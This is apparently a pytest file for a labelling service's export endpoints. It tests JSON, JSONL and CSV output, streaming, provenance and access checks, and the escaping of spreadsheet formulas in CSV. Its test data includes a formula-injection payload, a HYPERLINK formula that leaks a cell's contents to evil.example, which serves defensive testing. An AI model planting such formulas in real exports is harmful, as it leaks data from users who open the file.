"""Exports: results, raw labels and the worker report, streamed, in every format,
with spreadsheet formulas defused in CSV."""
from __future__ import annotations

import csv
import io
import json
from typing import Any

import pytest

from tests.support import item_names, make_users

RESULT_KEYS = {"external_id", "status", "label", "confidence", "source", "n_labels", "posterior"}
PROVENANCE = {"external_id", "worker", "label", "created_at", "duration_ms",
              "guidelines_version", "is_gold"}
FORMULA_STARTS = ("=", "+", "-", "@")
# External ids a spreadsheet would run as formulas, and a harmless one.
HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+1+2", "-3+4",
           "@SUM(A1:A9)", "plain"]


@pytest.fixture
def labelled(app: Any, manager: Any, clock: Any) -> dict[str, Any]:
    """Classes "+1" and "-1"; five hostile-looking items and gold "g0"; two
    workers, "@alice" (says +1) and "-bob" (says -1), each answer gold first
    (gold_rate 1.0), one answer per simulated second, with a duration. The
    guidelines change half way, so later labels carry version 2. A last item,
    "untouched", gets no labels."""
    body = {"name": "exports", "labels": ["+1", "-1"], "qualification_size": 0,
            "gold_rate": 1.0, "redundancy": 2, "max_redundancy": 2,
            "confidence_threshold": 0.5, "guidelines": "v1"}
    pid = manager.post("/projects", body).get_json()["id"]
    items = [{"external_id": name, "data": {"text": name}} for name in HOSTILE]
    items.append({"external_id": "g0", "data": {"text": "gold"}, "gold_label": "+1"})
    assert manager.post(f"/projects/{pid}/items", items).status_code == 201
    names = item_names(app, pid)
    given = []
    for (wid, worker), (username, label) in zip(
        make_users(app, manager, "@alice", "-bob"), [("@alice", "+1"), ("-bob", "-1")]
    ):
        for step in range(10):
            clock.advance(1)
            response = worker.post(f"/projects/{pid}/next")
            if response.status_code == 204:
                break
            offer = response.get_json()
            duration = 1000 + 10 * step
            answered = worker.post(f"/assignments/{offer['assignment_id']}/answer",
                                   {"label": label, "duration_ms": duration})
            assert answered.status_code == 200
            given.append({"external_id": names[offer["item"]["id"]], "worker": username,
                          "worker_id": wid, "label": label,
                          "created_at": clock.current.isoformat().replace("+00:00", "Z"),
                          "duration_ms": duration, "is_gold": names[offer["item"]["id"]] == "g0",
                          "guidelines_version": 1 if username == "@alice" else 2})
        if username == "@alice":
            assert manager.patch(f"/projects/{pid}", {"guidelines": "v2"}).status_code == 200
    assert manager.post(f"/projects/{pid}/items", [
        {"external_id": "untouched", "data": {}}]).status_code == 201
    assert len(given) == 12  # 6 items each, gold included
    return {"id": pid, "given": given}


def _read(response: Any) -> Any:
    """The response, its streamed body read to the end."""
    response.get_data()
    return response


def _csv(response: Any) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(response.get_data(as_text=True))))


def _unescape(cell: str) -> str:
    return cell[1:] if cell.startswith("'") and cell[1:].startswith(FORMULA_STARTS) else cell


def test_results_in_json_jsonl_and_csv_hold_the_same_rows(manager, labelled):
    pid = labelled["id"]
    # Each streamed body is read before the next request: the test client runs
    # the stream in this thread, inside the request's context.
    as_json = _read(manager.get(f"/projects/{pid}/results?format=json"))
    as_jsonl = _read(manager.get(f"/projects/{pid}/results?format=jsonl"))
    as_csv = _read(manager.get(f"/projects/{pid}/results?format=csv"))
    assert as_json.status_code == as_jsonl.status_code == as_csv.status_code == 200
    assert as_json.mimetype == "application/json"
    assert as_jsonl.mimetype == "application/x-ndjson"
    assert as_csv.mimetype == "text/csv"
    assert "attachment" in as_csv.headers["Content-Disposition"]

    rows = as_json.get_json()
    assert [row["external_id"] for row in rows] == HOSTILE + ["untouched"]  # no gold
    assert all(set(row) == RESULT_KEYS for row in rows)
    labelled_rows = rows[:-1]
    assert all(row["n_labels"] == 2 and row["source"] == "crowd" for row in labelled_rows)
    assert all(set(row["posterior"]) == {"+1", "-1"} for row in labelled_rows)
    assert rows[-1] == {"external_id": "untouched", "status": "open", "label": None,
                        "confidence": None, "source": None, "n_labels": 0, "posterior": None}

    lines = as_jsonl.get_data(as_text=True).splitlines()
    assert [json.loads(line) for line in lines] == rows

    table = _csv(as_csv)
    assert list(table[0]) == ["external_id", "status", "label", "confidence", "source",
                              "n_labels", "posterior"]
    assert len(table) == len(rows)
    for cells, row in zip(table, rows):
        assert _unescape(cells["external_id"]) == row["external_id"]
        assert cells["status"] == row["status"]
        assert _unescape(cells["label"]) == (row["label"] or "")
        assert cells["source"] == (row["source"] or "")
        assert int(cells["n_labels"]) == row["n_labels"]
        if row["confidence"] is None:
            assert cells["confidence"] == "" and cells["posterior"] == ""
        else:
            assert float(cells["confidence"]) == row["confidence"]
            assert json.loads(cells["posterior"]) == row["posterior"]


def test_csv_cells_that_look_like_formulas_are_escaped(manager, labelled):
    pid = labelled["id"]
    for path in (f"/projects/{pid}/results?format=csv", f"/projects/{pid}/labels?format=csv",
                 f"/projects/{pid}/workers?format=csv"):
        response = manager.get(path)
        assert response.status_code == 200, path
        rows = list(csv.reader(io.StringIO(response.get_data(as_text=True))))
        cells = [cell for row in rows for cell in row]
        assert not [c for c in cells if c.startswith(FORMULA_STARTS)], path

    results = _csv(manager.get(f"/projects/{pid}/results?format=csv"))
    assert [r["external_id"] for r in results] == [
        '\'=HYPERLINK("http://evil.example/?leak="&A1,"click")', "'+1+2", "'-3+4",
        "'@SUM(A1:A9)", "plain", "untouched"]
    assert {r["label"] for r in results} <= {"'+1", "'-1", ""}
    labels = _csv(manager.get(f"/projects/{pid}/labels?format=csv"))
    assert {r["worker"] for r in labels} == {"'@alice", "'-bob"}
    workers = _csv(manager.get(f"/projects/{pid}/workers?format=csv"))
    assert sorted(r["username"] for r in workers) == ["'-bob", "'@alice"]
    # JSON needs no escaping: the values come out as they went in.
    raw = manager.get(f"/projects/{pid}/results?format=json").get_json()
    assert raw[0]["external_id"] == HOSTILE[0]


def test_labels_export_carries_provenance(manager, labelled):
    pid = labelled["id"]
    response = manager.get(f"/projects/{pid}/labels")  # jsonl by default
    assert response.status_code == 200 and response.mimetype == "application/x-ndjson"
    rows = [json.loads(line) for line in response.get_data(as_text=True).splitlines()]
    assert all(PROVENANCE <= set(row) for row in rows)
    picked = [{k: row[k] for k in (*PROVENANCE, "worker_id")} for row in rows]
    assert picked == labelled["given"]
    assert [row["is_gold"] for row in rows].count(True) == 2
    assert all(row["mode"] == "work" and row["counted"] is True for row in rows)

    as_json = manager.get(f"/projects/{pid}/labels?format=json").get_json()
    assert as_json == rows
    table = _csv(manager.get(f"/projects/{pid}/labels?format=csv"))
    assert len(table) == len(rows)
    for cells, row in zip(table, rows):
        assert _unescape(cells["external_id"]) == row["external_id"]
        assert _unescape(cells["worker"]) == row["worker"]
        assert cells["created_at"] == row["created_at"]
        assert int(cells["duration_ms"]) == row["duration_ms"]
        assert int(cells["guidelines_version"]) == row["guidelines_version"]
        assert cells["is_gold"] == str(row["is_gold"])


def test_worker_report_as_csv(manager, labelled):
    pid = labelled["id"]
    as_json = manager.get(f"/projects/{pid}/workers").get_json()["workers"]
    response = manager.get(f"/projects/{pid}/workers?format=csv")
    assert response.status_code == 200 and response.mimetype == "text/csv"
    table = _csv(response)
    assert [int(r["worker"]) for r in table] == [row["worker"] for row in as_json]
    by_name = {_unescape(r["username"]): r for r in table}
    alice, bob = by_name["@alice"], by_name["-bob"]
    assert (alice["gold_seen"], alice["gold_correct"], alice["gold_accuracy"]) == ("1", "1", "1.0")
    assert (bob["gold_seen"], bob["gold_correct"], bob["gold_accuracy"]) == ("1", "0", "0.0")
    assert alice["labels"] == bob["labels"] == "5"
    assert alice["state"] == "active" and alice["estimated_accuracy"] == ""
    jsonl = manager.get(f"/projects/{pid}/workers?format=jsonl").get_data(as_text=True)
    assert [json.loads(line) for line in jsonl.splitlines()] == as_json


def test_unknown_format_is_a_400(manager, make_project):
    pid = make_project(n_items=1)["id"]
    for path in ("results?format=xml", "labels?format=xlsx", "workers?format=pdf",
                 "results?format="):
        response = manager.get(f"/projects/{pid}/{path}")
        assert response.status_code == 400, path
        assert response.get_json()["error"]["code"] == "bad_format"


def test_exports_of_an_unknown_project_are_404_and_need_a_manager(app, manager, labelled):
    assert manager.get("/projects/999999/results").status_code == 404
    assert manager.get("/projects/999999/labels").status_code == 404
    (_, worker), = make_users(app, manager, "carol")
    assert worker.get(f"/projects/{labelled['id']}/results").status_code == 403
    assert worker.get(f"/projects/{labelled['id']}/labels").status_code == 403


def test_results_and_labels_are_streamed_in_batches(app, manager, make_project):
    project = make_project(n_items=2500, n_gold=0)
    pid = project["id"]
    for fmt in ("json", "jsonl", "csv"):
        response = manager.get(f"/projects/{pid}/results?format={fmt}")
        assert response.is_streamed, fmt
        chunks = list(response.response)
        if fmt != "csv":  # CSV goes out in 64 KiB pieces; this one is smaller
            assert len(chunks) > 1, fmt  # handed out piece by piece, not as one body
        body = b"".join(c if isinstance(c, bytes) else c.encode() for c in chunks).decode()
        if fmt == "json":
            names = [row["external_id"] for row in json.loads(body)]
        elif fmt == "jsonl":
            names = [json.loads(line)["external_id"] for line in body.splitlines()]
        else:
            names = [row["external_id"] for row in csv.DictReader(io.StringIO(body))]
        assert names == [f"w{i}" for i in range(2500)], fmt
    for fmt in ("jsonl", "csv", "json"):
        response = manager.get(f"/projects/{pid}/labels?format={fmt}")
        assert response.is_streamed, fmt
        response.get_data()
